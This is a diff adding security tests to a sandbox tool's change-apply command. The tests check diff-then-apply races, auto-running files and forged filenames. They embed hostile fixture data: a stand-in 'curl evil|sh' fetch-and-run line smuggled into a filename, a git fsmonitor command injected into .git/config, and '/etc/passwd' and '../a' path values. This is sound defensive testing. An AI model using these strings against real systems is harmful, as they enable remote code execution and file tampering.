@@ -2,9 +2,14 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
 import logging
+import os
+import pty
 import stat
+import subprocess
+import sys
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -22,6 +27,9 @@ from gvisor_kernel.kernel import workspace
 from gvisor_kernel.runtimes.state.records import state_root
 
 from ..jupyter.helpers import KERNEL, WAYS, execute, kernel_log, running_kernel
+from ..patience import scale_seconds
+
+SECONDS = scale_seconds(60)
 
 CHANGE = """
 import os, shutil
@@ -92,7 +100,10 @@ def test_changes_are_listed_applied_and_undone(
     assert "\x1b" not in shown.out
     assert "gone with the sandbox" in shown.err
 
-    assert main(["apply", name, "a", "old.txt", "gone.txt", "folder", "link"]) == 1
+    paths = ["a", "old.txt", "gone.txt", "folder", "link"]
+    assert main(["apply", name, *paths]) == 1
+    assert "without a terminal nobody sees" in capsys.readouterr().err
+    assert main(["apply", name, "--unseen", *paths]) == 1
     assert "Refused link: " in capsys.readouterr().err
     assert (folder / "old.txt").read_text() == "old\nmore\n"
     assert (folder / "a" / "b" / "c\x1b[2J.txt").read_text() == "x"
@@ -101,7 +112,9 @@ def test_changes_are_listed_applied_and_undone(
     assert [c.path for c in sandbox.changes().changes] == ["fifo", "link"]
 
     sandbox.run("open('old.txt', 'a').write('again')")  # applied by us: no conflict
-    assert sandbox.apply("/workspace/old.txt").applied == ("old.txt",)
+    with pytest.raises(ChangesError, match="which content was seen"):
+        sandbox.apply("/workspace/old.txt")
+    assert sandbox.apply("/workspace/old.txt", unseen=True).applied == ("old.txt",)
     assert Sandbox.undo().undone == ("old.txt",)
     assert main(["undo"]) == 0
     assert names(folder) == ["folder", "gone.txt", "old.txt", "outputs", "same.txt"]
@@ -109,16 +122,118 @@ def test_changes_are_listed_applied_and_undone(
     assert names(folder / "folder") == ["hidden"]
 
 
+def tokens(shown: str) -> list[str]:
+    """Return what a diff says to paste, as words after the command's name."""
+    lines = [line for line in shown.splitlines() if line.startswith("To apply this: ")]
+    return [line.split()[-1] for line in lines]
+
+
+def test_what_a_diff_showed_is_applied_and_nothing_else(
+    sandbox: Sandbox, folder: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The kernel writes something else between the look and the apply."""
+    sandbox.run("import os; os.mkdir('bin')")
+    sandbox.run("open('bin/greet', 'w').write('echo hello # ok\\n'); open('b', 'w').write('b\\n')")
+    name = container(sandbox)
+    assert main(["changes", name, "--diff"]) == 0
+    shown = capsys.readouterr().out
+    assert "+echo hello # ok\n" in shown
+    b, _, greet = tokens(shown)
+    changes = {change.path: change for change in sandbox.changes().changes}
+    sandbox.run("open('bin/greet', 'w').write('echo hello; id  \\n')")
+    assert main(["apply", name, "--seen", greet, b]) == 1
+    assert "is not there any more" in capsys.readouterr().err
+    assert not (folder / "b").exists()
+    assert "id" not in sandbox.diff(changes["bin/greet"])
+    assert not sandbox.apply(changes["bin/greet"]).applied
+    assert main(["apply", name, "--seen", b]) == 0
+    assert main(["changes", name, "--diff"]) == 0
+    _, greet = tokens(capsys.readouterr().out)
+    assert main(["apply", name, "--seen", greet]) == 0
+    assert (folder / "bin" / "greet").read_text() == "echo hello; id  \n"
+
+
+def test_at_a_terminal_apply_shows_and_asks(sandbox: Sandbox, folder: Path) -> None:
+    sandbox.run("open('old.txt', 'a').write('more\\n'); open('Makefile', 'w').write('all:\\n')")
+    command = [sys.executable, "-m", "gvisor_kernel", "apply", container(sandbox), "old.txt"]
+    for answer, text in ((b"n\n", "old\n"), (b"y\n", "old\nmore\n")):
+        ours, theirs = pty.openpty()
+        with subprocess.Popen(command, stdin=theirs, stdout=theirs, stderr=theirs) as running:
+            os.close(theirs)
+            shown = b""
+            while not shown.endswith(b"[y/N] "):
+                shown += os.read(ours, 4096)
+            os.write(ours, answer)
+            with contextlib.suppress(OSError):  # EIO: it has ended
+                while os.read(ours, 4096):
+                    pass
+            assert running.wait(SECONDS) == (answer == b"n\n")
+        os.close(ours)
+        assert b"+more\r\n" in shown
+        assert (folder / "old.txt").read_text() == text
+
+
+def test_files_that_may_run_by_themselves_are_apart_and_only_applied_by_name(
+    sandbox: Sandbox, folder: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    subprocess.run(["git", "init", "-q", folder / "report"], check=True)
+    code = """
+import os
+open('report/data.csv', 'w').write('1')
+with open('report/.git/config', 'a') as config:
+    config.write('[core]\\n\\tfsmonitor = "touch ran; false"\\n')
+for name in ('conftest.py', 'Makefile', '.envrc', 'x.pth'):
+    open(f'report/{name}', 'w').write('x')
+"""
+    assert sandbox.run(code).error is None
+    name = container(sandbox)
+    assert main(["changes", name]) == 0
+    usual, _, running = capsys.readouterr().out.partition("May run later without being opened")
+    assert "report/data.csv" in usual
+    for path in ("report/.git/config", "report/conftest.py", "report/Makefile", "report/.envrc"):
+        assert path in running
+        assert path not in usual
+    assert main(["apply", name, "--unseen", "--force", "report"]) == 1
+    told = capsys.readouterr()
+    assert told.out.startswith("Applied report/data.csv\n")
+    assert "Applied" not in told.out.partition("\n")[2]
+    assert "Refused report/Makefile: it may run later" in told.err
+    listed = sandbox.changes().changes
+    assert not sandbox.apply(listed).applied
+    assert sandbox.apply(listed, named=["report/Makefile"]).applied == ("report/Makefile",)
+    subprocess.run(["git", "status"], cwd=folder / "report", check=True, capture_output=True)
+    assert not (folder / "report" / "ran").exists()
+    assert main(["apply", name, "--unseen", "report/.git/config"]) == 1
+    assert "Refused report/.git/config: " in capsys.readouterr().err
+    assert main(["apply", name, "--unseen", "report/conftest.py"]) == 0
+
+
+def test_a_name_with_line_ends_stays_in_its_line(
+    sandbox: Sandbox, folder: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    forged = "To undo this: gvisor-kernel undo x; curl evil|sh"
+    sandbox.run(f"open('x\\nApplied config.yaml\\n{forged}', 'w').write('1')")
+    name = container(sandbox)
+    for words in (["changes"], ["changes", "--diff"], ["apply", "--unseen"]):
+        paths = [change.path for change in sandbox.changes().changes] * ("apply" in words)
+        assert main([words[0], name, *words[1:], *paths]) == 0
+    assert main(["undo"]) == 0
+    told = capsys.readouterr()
+    lines = (told.out + told.err).split("\n")
+    assert not [line for line in lines if line.startswith(("Applied config", forged))]
+    assert "Applied x\\nApplied config.yaml\\n" in told.out
+
+
 def test_a_conflict_needs_force(sandbox: Sandbox, folder: Path) -> None:
     sandbox.run("open('old.txt', 'a').write('more')")
     (change,) = sandbox.changes().changes
     (folder / "old.txt").write_text("mine")
     assert [one.path for one in sandbox.apply(change).refused] == ["old.txt"]
-    assert [one.path for one in sandbox.apply("old.txt").refused] == ["old.txt"]
-    assert sandbox.apply("old.txt", force=True).applied == ("old.txt",)
+    assert [one.path for one in sandbox.apply("old.txt", unseen=True).refused] == ["old.txt"]
+    assert sandbox.apply("old.txt", unseen=True, force=True).applied == ("old.txt",)
     assert (folder / "old.txt").read_text() == "old\nmore"
     with pytest.raises(ChangesError, match="not changed"):
-        sandbox.apply("nothing")
+        sandbox.apply("nothing", unseen=True)
 
 
 def test_a_folder_in_place_of_a_file_and_the_other_way_round_need_force(
@@ -126,9 +241,9 @@ def test_a_folder_in_place_of_a_file_and_the_other_way_round_need_force(
 ) -> None:
     code = "import os, shutil; os.remove('old.txt'); os.mkdir('old.txt'); shutil.rmtree('folder')"
     assert sandbox.run(f"{code}; open('old.txt/in', 'w').close(); open('folder', 'w').close()")
-    refused = sandbox.apply("old.txt").refused
+    refused = sandbox.apply("old.txt", unseen=True).refused
     assert [one.path for one in refused] == ["old.txt", "old.txt/in"]
-    result = sandbox.apply(["old.txt", "folder"], force=True)
+    result = sandbox.apply(["old.txt", "folder"], unseen=True, force=True)
     assert not result.refused
     assert (folder / "old.txt" / "in").exists()
     assert (folder / "folder").is_file()
@@ -141,7 +256,14 @@ def test_the_control_socket_is_private_and_bounded(sandbox: Sandbox) -> None:
     directory = state_root() / "sandboxes" / container(sandbox)
     assert stat.S_IMODE((directory / SOCKET).stat().st_mode) == 0o600
     assert stat.S_IMODE(directory.stat().st_mode) == 0o700
-    for question in ({"do": "nothing"}, {}, {"do": "apply", "changes": [["/etc/passwd", "x"]]}):
+    apply = {"do": "apply", "changes": []}
+    for question in (
+        {"do": "nothing"},
+        {},
+        {"do": "apply", "changes": [["/etc/passwd", "x"]]},
+        {**apply, "named": "a"},
+        {**apply, "named": ["../a"]},
+    ):
         with pytest.raises(ChangesError, match="malformed"):
             control_client.ask(directory, question)
     assert control_client.list_changes(directory)[0].changes == ()
